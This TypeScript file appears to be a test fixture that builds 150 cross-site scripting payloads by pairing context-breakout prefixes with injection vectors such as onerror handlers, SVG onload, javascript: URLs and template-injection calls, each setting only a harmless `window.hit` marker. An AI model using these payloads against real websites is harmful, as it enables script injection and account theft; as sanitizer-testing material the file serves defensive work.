const HIT = 'window.hit=1'

/** Ways out of where a text may have been put. */
const BREAKOUTS = ['', '">', "'>", '</script>', '</style>', '</title>', '-->', ']]>', '\u0000', '&quot;&gt;']

const VECTORS = [
  `<script>${HIT}</script>`,
  `<img src=x onerror=${HIT}>`,
  `<svg/onload=${HIT}>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  '<iframe srcdoc="<script>parent.hit=1</script>">',
  `<details open ontoggle=${HIT}>x</details>`,
  `<body onload=${HIT}>`,
  `javascript:${HIT}`,
  `<a href=javascript:${HIT} autofocus onfocus=${HIT} tabindex=0>x</a>`,
  `<math><mtext><mglyph><style><img src=x onerror=${HIT}>`,
  '<object data="data:text/html,<script>parent.hit=1</script>"></object>',
  `{{constructor.constructor("${HIT}")()}}`,
  `\${${HIT}}`,
  `<video><source onerror=${HIT}></video>`,
  `" onmouseover=${HIT} autofocus onfocus=${HIT} x="`,
]

/** 150 texts that set `window.hit` wherever one of them runs. */
export const PAYLOADS: readonly string[] = BREAKOUTS.flatMap((out) => VECTORS.map((vector) => `${out}${vector}`))
